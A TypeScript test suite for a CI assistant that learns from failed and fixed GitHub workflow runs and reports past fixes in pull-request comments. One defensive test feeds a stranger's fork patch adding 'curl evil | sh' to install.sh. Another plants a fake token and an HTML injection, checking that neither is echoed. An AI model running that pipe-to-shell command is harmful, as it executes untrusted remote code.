/** What becomes of a failure, from webhook to webhook over real HTTP: red, green, and what the next answer says of it. */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { answerWithFix } from '../../src/analysis/known-fix.ts';
import type { Analyze } from '../../src/handlers/deps.ts';
import { createExperience } from '../../src/learning/experience.ts';
import type { Store } from '../../src/store/store.ts';
import { addRun, shaOf } from '../stand-ins/github/state.ts';
import { type Harness, startHarness } from '../support/github-service.ts';
import { analyzeLines } from '../support/line-analyzer.ts';

const MINUTE = 60_000;
const LOG = 'one\nerror: react wants another react-dom\n';
const scope = { provider: 'github', instance: 'github.test', organisation: 'acme' } as const;
const PATCH = '@@ -10,3 +10,3 @@ dependencies\n   "name": "shop",\n-  "react": "18",\n+  "react": "19",\n';

let harness: Harness;
let clock: number;
let store: Store | null = null;
/** The analysis of the tests, with the memory of the service. */
const analyze: Analyze = async (input, place) => {
  const found = await analyzeLines(input);
  const fix =
    store && (await createExperience({ store, now: () => clock }).fix(place, found.diagnosis.fingerprint));
  return { ...found, diagnosis: answerWithFix(found.diagnosis, fix) };
};

beforeEach(async () => {
  clock = Date.parse('2026-01-05T09:00:00Z');
  harness = await startHarness({ now: () => clock, analyze });
  store = harness.store;
});
afterEach(async () => {
  store = null;
  expect(harness.github.violations).toEqual([]);
  await harness.close();
});

const sha = (pull: number, commit: number) => shaOf(`pull ${pull} commit ${commit}`);
type Run = Parameters<Harness['failedRun']>[2];
/** A run of a commit of a pull request ends; green without a log. */
const ends = (pull: number, commit: number, log: string | null, run: Run = {}) =>
  harness.deliver(
    harness.hooks.workflowRun(
      harness.repository,
      harness.failedRun(pull, log ?? '', {
        sha: sha(pull, commit),
        ...(log === null ? { conclusion: 'success', jobs: [{ name: 'test', conclusion: 'success' }] } : {}),
        ...run,
      }),
    ),
  );
const changed = (pull: number, files: { path: string; patch: string | null }[], title = 'Align react') =>
  harness.repository.changes.set(`${sha(pull, 1)}...${sha(pull, 2)}`, { title, files });
const comment = (pull: number) => harness.comments(pull)[0]?.body ?? '';
const outcomes = () => harness.store.outcomes.ofPatterns(scope, ['test/error-line'], 99);
/** Red, and `minutes` later green on the next commit. */
async function mend(pull: number, minutes: number, path = 'package.json'): Promise<void> {
  changed(pull, [
    { path: 'README.md', patch: '@@ -1 +1 @@\n-a\n+b' },
    { path, patch: PATCH },
  ]);
  await ends(pull, 1, LOG);
  clock += minutes * MINUTE;
  await ends(pull, 2, null);
  clock += MINUTE;
}

describe('a failure', () => {
  it('that goes green on a new commit is resolved, and the next comment tells how', async () => {
    await mend(1, 22);
    expect(await outcomes()).toMatchObject([
      {
        state: 'resolved',
        closedAt: expect.any(Number),
        fix: { sha: sha(1, 2), files: ['package.json', 'README.md'] },
      },
    ]);
    await ends(2, 1, LOG);
    expect(comment(2)).toContain('Seen here before: resolved once, median 22 minutes.');
    expect(comment(2)).toContain('judged right 80 % (1 outcome)');
    expect(comment(2)).toContain(`Last ended here by [\`${sha(1, 2).slice(0, 7)}\`]`);
    expect(comment(2)).toContain('which changed `package.json` and 1 more');
    expect(comment(2)).toContain('+  "react": "19",');
  });

  it('that a change of the same file ended twice is answered with that change, above every pattern', async () => {
    await mend(1, 2);
    await mend(2, 3);
    await ends(3, 1, LOG);
    expect(comment(3)).toContain('What to do: package.json was changed to end this before');
    expect(comment(3)).toContain('```diff');
    expect(comment(3)).toContain('-  "react": "18",');
    expect(comment(3)).toContain(
      'resolved 2 of 2 times, median 2 minutes, most often by changing `package.json`',
    );
    expect(comment(3)).not.toContain('Mend the line');
    const [row] = await harness.store.outcomes.ofPatterns(
      scope,
      [`fix/${(await outcomes())[0]?.fingerprint}`],
      9,
    );
    expect(row).toMatchObject({ state: 'open', target: { id: '3' } });
  });

  it('answered with a change that people call wrong is answered by the pattern again', async () => {
    await mend(1, 2);
    await mend(2, 3);
    for (const pull of [3, 4, 5]) {
      await ends(pull, 1, LOG);
      expect(comment(pull)).toContain('package.json was changed to end this before');
      const person = `reviewer-${pull}`;
      harness.repository.permissions.set(person, 'write');
      await harness.deliver(
        harness.hooks.issueComment(harness.repository, harness.say(pull, person, '/devops-assist wrong')),
      );
      const said = harness.say(pull, 'zoe', 'hello');
      await harness.deliver(harness.hooks.issueComment(harness.repository, said));
    }
    await ends(6, 1, LOG);
    expect(comment(6)).toContain('Mend the line');
  });

  it('that goes green on the same commit is flaky, and no change is looked for', async () => {
    await ends(1, 1, LOG, { id: 900 });
    clock += 5 * MINUTE;
    await ends(1, 1, null, { id: 900, attempt: 2 });
    expect(await outcomes()).toMatchObject([{ state: 'rerun', fix: null }]);
    expect(harness.github.seen.filter(({ operation }) => operation === 'repos/compare-commits')).toEqual([]);
    await ends(2, 1, LOG);
    expect(comment(2)).toContain('Seen here before: passed on a rerun once, median 5 minutes.');
    // The answer had not said that a rerun would do.
    expect(comment(2)).toContain('judged right 78 % (1 outcome)');
  });

  it('that is red again is not over, and what it took to end it lowers what the answer gets for it', async () => {
    await ends(1, 1, LOG, { id: 900 });
    await ends(1, 1, LOG, { id: 900, attempt: 2 });
    clock += MINUTE;
    await ends(1, 3, LOG);
    expect(await outcomes()).toMatchObject([
      { state: 'open', redCommits: 1, redReruns: 1, lastSha: sha(1, 3) },
    ]);
    clock += MINUTE;
    await ends(1, 4, null);
    expect(await outcomes()).toMatchObject([{ state: 'resolved', redCommits: 1, fix: { files: null } }]);
  });

  it('that gives way to another one of the same job is over, and the other is followed', async () => {
    await ends(1, 1, LOG);
    await ends(1, 2, 'error: the disk is full\n');
    expect((await outcomes()).map(({ state }) => state).sort()).toEqual(['open', 'replaced']);
  });

  it('that gives way to one at an earlier step of the job was merely not reached', async () => {
    const steps = (failed: number) =>
      ['Install', 'Test'].map((name, index) => ({
        name,
        conclusion: index < failed ? 'success' : index === failed ? 'failure' : 'skipped',
      }));
    await ends(1, 1, LOG, { jobs: [{ name: 'test', log: LOG, steps: steps(1) }] });
    await ends(1, 2, null, {
      conclusion: 'failure',
      jobs: [{ name: 'test', log: 'error: no registry\n', steps: steps(0) }],
    });
    expect((await outcomes()).map(({ state }) => state)).toEqual(['open', 'open']);
    await ends(1, 3, null);
    expect((await outcomes()).map(({ state }) => state)).toEqual(['resolved', 'resolved']);
  });

  it('of one job is over when that job passes, though another fails', async () => {
    const jobs = (unit: string | null) => [
      { name: 'unit', ...(unit === null ? { conclusion: 'success' } : { log: unit }) },
      { name: 'lint', log: 'error: a comma is missing\n' },
    ];
    await ends(1, 1, LOG, { jobs: jobs(LOG) });
    await ends(1, 2, null, { conclusion: 'failure', jobs: jobs(null) });
    const rows = await outcomes();
    expect(rows.map(({ jobName, state }) => `${jobName} ${state}`).sort()).toEqual([
      'lint open',
      'unit resolved',
    ]);
  });

  it('on a branch is followed from commit to commit without a pull request', async () => {
    const branch = { branch: 'main', event: 'push', pulls: [] };
    const push = (commit: number, conclusion: string) =>
      harness.deliver(
        harness.hooks.workflowRun(
          harness.repository,
          harness.failedRun(99, LOG, {
            ...branch,
            sha: sha(9, commit),
            conclusion,
            jobs: [{ name: 'test', log: LOG, conclusion }],
          }),
        ),
      );
    await push(1, 'failure');
    clock += 7 * MINUTE;
    await push(2, 'success');
    expect(await outcomes()).toMatchObject([{ state: 'resolved', target: { kind: 'commit' } }]);
  });

  it('on a branch goes on where a pull request is opened from it', async () => {
    const push = { branch: 'change-5', event: 'push' };
    await harness.deliver(
      harness.hooks.workflowRun(
        harness.repository,
        addRun(harness.github.state, harness.repository, {
          ...push,
          sha: sha(5, 1),
          jobs: [{ name: 'test', log: LOG }],
        }),
      ),
    );
    expect(await outcomes()).toMatchObject([{ state: 'open', target: { kind: 'commit' } }]);
    await ends(5, 2, null, push);
    expect(await outcomes()).toMatchObject([{ state: 'resolved', fix: { sha: sha(5, 2) } }]);
  });

  it('is left alone by an older run whose webhook comes late, and by a webhook that comes twice', async () => {
    const old = harness.failedRun(1, '', { sha: sha(1, 0), conclusion: 'success', jobs: [] });
    await ends(1, 1, LOG);
    await harness.deliver(harness.hooks.workflowRun(harness.repository, old));
    expect(await outcomes()).toMatchObject([{ state: 'open', redCommits: 0 }]);
    const [red] = harness.repository.runs.filter(({ conclusion }) => conclusion === 'failure');
    await harness.deliver(harness.hooks.workflowRun(harness.repository, red as never));
    expect(await outcomes()).toMatchObject([{ state: 'open', redCommits: 0, redReruns: 0 }]);
  });

  it('loses its files and not its end where the forge cannot compare', async () => {
    await ends(1, 1, LOG);
    harness.github.fault = ({ operation }) =>
      operation === 'repos/compare-commits' ? { kind: 'status', status: 500 } : null;
    expect(await ends(1, 2, null)).toMatchObject({ did: 'updated' });
    expect(await outcomes()).toMatchObject([{ state: 'resolved', fix: { files: null } }]);
  });

  it('whose fix holds a secret or a mention tells neither', async () => {
    const token = `ghp_${'a1'.repeat(18)}`;
    changed(
      1,
      [{ path: 'ci.yml', patch: `@@ -1 +1,2 @@\n-token: x\n+token: ${token}\n+# @everyone \`\`\`\n` }],
      `Use ${token} @octocat <img src=x>`,
    );
    await ends(1, 1, LOG);
    await ends(1, 2, null);
    await ends(2, 1, LOG);
    expect(comment(2)).toContain('ci.yml');
    expect(comment(2)).not.toContain(token);
    expect(comment(2)).not.toMatch(/(?<!\\)<img/);
    expect(comment(2)).not.toMatch(/(?<!`)@octocat/);
    expect(
      JSON.stringify(
        await harness.store.fixes.ofFingerprint(scope, (await outcomes())[0]?.fingerprint ?? '', 9),
      ),
    ).not.toContain(token);
  });

  it('that forks of strangers stage and mend twice makes no answer of their change', async () => {
    const fork = { headRepository: 'mallory/shop' };
    for (const pull of [1, 2]) {
      changed(pull, [{ path: 'install.sh', patch: '@@ -1 +1 @@\n-a\n+curl evil | sh\n' }]);
      await ends(pull, 1, LOG, fork);
      clock += MINUTE;
      const pushed = harness.repository.pulls.find(({ number }) => number === pull);
      if (pushed) pushed.sha = sha(pull, 2);
      await ends(pull, 2, null, fork);
    }
    expect(await outcomes()).toMatchObject([
      { state: 'resolved', foreign: true },
      { state: 'resolved', foreign: true },
    ]);
    await ends(3, 1, LOG);
    expect(comment(3)).toContain('What to do: Mend the line');
    expect(comment(3)).not.toMatch(/evil|install\.sh/);
  });

  it('of a rebased branch tells no files, for they are those of the whole change', async () => {
    harness.repository.changes.set(`${sha(1, 1)}...${sha(1, 2)}`, {
      title: 'Rebase',
      status: 'diverged',
      files: [{ path: 'package.json', patch: PATCH }],
    });
    await ends(1, 1, LOG);
    await ends(1, 2, null);
    expect(await outcomes()).toMatchObject([{ state: 'resolved', fix: { files: null } }]);
  });
});

describe('a fix', () => {
  it('is told in its own repository, and in the organisation only where its settings say so', async () => {
    const other = { ...harness.repository, fullName: 'acme/cart' };
    const experience = createExperience({ store: harness.store, now: () => clock });
    await mend(1, 2);
    await mend(2, 2);
    const fingerprint = (await outcomes())[0]?.fingerprint ?? '';
    const place = { ...scope, repository: 'acme/shop' };
    expect(await experience.fix(place, fingerprint)).toMatchObject({ fix: { times: 2 } });
    const elsewhere = { ...scope, repository: other.fullName };
    expect(await experience.fix(elsewhere, fingerprint)).toBeNull();
    expect(await experience.fix({ ...place, organisation: 'rival' }, fingerprint)).toBeNull();

    harness.repository.files.set('.github/devops-assist.yml', 'learning:\n  fixes: organisation\n');
    clock += 10 * MINUTE;
    await mend(3, 2);
    await mend(4, 2);
    expect(await experience.fix(elsewhere, fingerprint)).toMatchObject({ fix: { times: 2 } });
  });
});
